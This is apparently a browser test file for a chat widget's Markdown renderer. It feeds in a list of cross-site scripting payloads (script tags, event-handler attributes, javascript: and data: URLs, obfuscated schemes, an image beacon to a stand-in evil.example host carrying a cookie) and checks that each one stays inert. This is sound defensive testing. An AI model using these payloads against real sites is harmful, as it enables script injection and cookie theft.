import path from 'node:path';
import { build } from 'esbuild';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserAvailable, launchBrowser } from './harness.js';

/**
 * The widget's Markdown renderer, run in a real browser on hostile model output. The renderer module
 * is bundled on its own so each payload can be checked without a server; the end-to-end test in
 * widget.test.ts sends hostile Markdown through a real stream as well.
 */
const HOSTILE = [
  '<script>window.__pwned = "script"</script>',
  '<img src=x onerror="window.__pwned = \'img\'">',
  'Hello <svg onload="window.__pwned=\'svg\'"><circle r=4></circle></svg> there',
  '<iframe src="javascript:window.parent.__pwned=\'iframe\'"></iframe>',
  '[click me](javascript:window.__pwned=\'link\')',
  '[tab trick](java\tscript:window.__pwned=\'tab\')',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:window.__pwned=\'image\')',
  '![tracker](https://evil.example/collect?cookie=1)',
  '<a href="javascript:window.__pwned=\'a\'">raw anchor</a>',
  '**bold <b onmouseover="window.__pwned=1">x</b>**',
  '`<script>window.__pwned = "code"</script>`',
  '```html\n<script>window.__pwned = "fence"</script>\n```',
  '<style>* { display: none !important }</style>',
  '<details open ontoggle="window.__pwned=\'details\'">x</details>',
  '&lt;img src=x onerror=window.__pwned=1&gt; and &#60;script&#62;',
  '| a | <img src=x onerror="window.__pwned=\'table\'"> |\n|---|---|\n| 1 | 2 |',
  '[ok](https://example.com/"onmouseover="window.__pwned=1)',
];

describe.skipIf(!browserAvailable())('widget Markdown renderer (chromium)', () => {
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    const bundle = await build({
      stdin: {
        contents: "import { renderMarkdown, safeUrl } from './markdown.js'; (window as any).md = { renderMarkdown, safeUrl };",
        resolveDir: path.resolve('widget/src'),
        loader: 'ts',
      },
      bundle: true,
      format: 'iife',
      write: false,
      logLevel: 'silent',
    });
    browser = await launchBrowser();
    page = await browser.newPage();
    await page.setContent('<!doctype html><html><body><div id="out"></div></body></html>');
    await page.addScriptTag({ content: bundle.outputFiles[0].text });
  });

  afterAll(async () => {
    await browser?.close();
  });

  const render = (markdown: string) =>
    page.evaluate((md) => {
      const out = document.getElementById('out')!;
      out.replaceChildren((window as any).md.renderMarkdown(md));
      const elements = Array.from(out.querySelectorAll('*'));
      return {
        html: out.innerHTML,
        text: out.textContent ?? '',
        tags: Array.from(new Set(elements.map((e) => e.tagName.toLowerCase()))),
        eventAttributes: elements.flatMap((e) => Array.from(e.attributes).filter((a) => /^on/i.test(a.name)).map((a) => a.name)),
        hrefs: Array.from(out.querySelectorAll('a')).map((a) => a.getAttribute('href')),
      };
    }, markdown);

  it.each(HOSTILE)('keeps %j inert', async (markdown) => {
    const result = await render(markdown);
    expect(result.tags.filter((t) => ['script', 'img', 'svg', 'iframe', 'style', 'object', 'embed', 'details', 'b', 'form', 'input'].includes(t))).toEqual([]);
    expect(result.eventAttributes).toEqual([]);
    for (const href of result.hrefs) expect(href).toMatch(/^(https?:|mailto:)/);
    // Nothing ran, now or after the event loop had a chance to fire load/error handlers.
    await page.waitForTimeout(50);
    expect(await page.evaluate(() => (window as any).__pwned)).toBeUndefined();
  });

  it('shows raw HTML as text instead of dropping it', async () => {
    const result = await render('Before <img src=x onerror=alert(1)> after');
    expect(result.text).toContain('<img src=x onerror=alert(1)>');
    expect(result.html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('turns an image into a link to it, so no request leaves the page on render', async () => {
    const result = await render('![the chart](https://cdn.example/chart.png)');
    expect(result.tags).not.toContain('img');
    expect(result.hrefs).toEqual(['https://cdn.example/chart.png']);
    expect(result.text).toBe('the chart');
  });

  it('renders ordinary Markdown: emphasis, lists, code, tables, safe links', async () => {
    const result = await render(
      '## Steps\n\n1. Open **Settings**\n2. Choose *Billing* and `Plan`\n\n- [Pricing](https://acme.example/pricing "Prices")\n- mailto: [us](mailto:help@acme.example)\n\n```\nnpm start\n```\n\n| Plan | Price |\n|---|---|\n| Pro | 10 &euro; &amp; more |',
    );
    expect(result.tags).toEqual(expect.arrayContaining(['h3', 'ol', 'ul', 'li', 'strong', 'em', 'code', 'pre', 'table', 'th', 'td', 'a']));
    expect(result.hrefs).toEqual(['https://acme.example/pricing', 'mailto:help@acme.example']);
    expect(result.text).toContain('& more');
    const link = await page.evaluate(() => {
      const a = document.querySelector('#out a')!;
      return { target: a.getAttribute('target'), rel: a.getAttribute('rel'), title: a.getAttribute('title') };
    });
    expect(link).toEqual({ target: '_blank', rel: 'noopener noreferrer nofollow', title: 'Prices' });
  });

  it('allows only absolute http(s) and mailto URLs', async () => {
    const verdicts = await page.evaluate(() =>
      ['https://a.example/x', 'http://a.example', 'mailto:x@y.example', 'javascript:alert(1)', ' JaVaScRiPt:alert(1)', 'vbscript:x', 'data:text/html,x', '/relative', '//proto-relative.example', 'file:///etc/passwd'].map(
        (u) => (window as any).md.safeUrl(u),
      ),
    );
    expect(verdicts).toEqual(['https://a.example/x', 'http://a.example/', 'mailto:x@y.example', null, null, null, null, null, null, null]);
  });
});
